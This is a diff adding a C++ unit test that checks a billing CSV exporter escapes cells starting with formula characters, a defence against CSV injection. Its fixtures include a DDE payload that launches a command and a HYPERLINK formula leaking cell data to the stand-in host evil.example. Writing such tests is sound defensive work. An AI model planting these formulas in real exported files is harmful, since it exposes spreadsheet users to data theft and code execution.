@@ -277,6 +277,29 @@ TEST(Billing, CsvQuotesFieldsAndOrdersBySerialThenCounter) {
   EXPECT_EQ(csv_field("a\rb"), "\"a\rb\"");
 }
 
+TEST(Billing, CsvTextCellsThatCouldBeFormulasAreNeutralised) {
+  // Device- and customer-chosen text (OWASP "CSV Injection"): shown as text, never evaluated.
+  BillingRow row;
+  row.serial = "@SUM(1+1)";
+  row.model = "+cmd|' /C calc'!A0";
+  row.customer = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Pay here\")";
+  row.place = "\tLobby";
+  row.counter = "-2+3";
+  row.start = -5;  // numbers stay numbers, negative ones too
+  row.end = 7;
+  row.difference = -12;
+  EXPECT_EQ(to_csv({row}),
+            std::string(kBillingCsvHeader) +
+                "\r\n\"'@SUM(1+1)\",\"'+cmd|' /C calc'!A0\","
+                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Pay here\"\")\","
+                "\"'\tLobby\",\"'-2+3\",,-5,,7,-12,\r\n");
+  EXPECT_EQ(csv_text_field("\r=1+1"), "\"'\r=1+1\"");
+  EXPECT_EQ(csv_text_field("-"), "\"'-\"");
+  EXPECT_EQ(csv_text_field("Lobby = east"), "Lobby = east");  // only the first character counts
+  EXPECT_EQ(csv_text_field("a,b"), "\"a,b\"");
+  EXPECT_EQ(csv_text_field(""), "");
+}
+
 TEST(Billing, CsvJoinsSeveralFlags) {
   std::vector<MeterReading> readings = {
       reading(day(2), {{"total", 100}}),
